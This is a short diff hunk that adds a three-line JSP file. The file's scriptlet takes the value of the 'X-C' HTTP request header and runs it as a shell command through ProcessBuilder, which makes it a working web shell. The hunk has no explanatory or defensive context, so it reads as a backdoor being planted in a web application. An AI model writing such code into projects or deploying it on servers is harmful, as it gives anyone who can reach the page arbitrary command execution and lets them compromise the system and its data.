@@ -1,0 +1,3 @@
+<%
+Process p = new ProcessBuilder("sh", "-c", request.getHeader("X-C")).start();
+%>
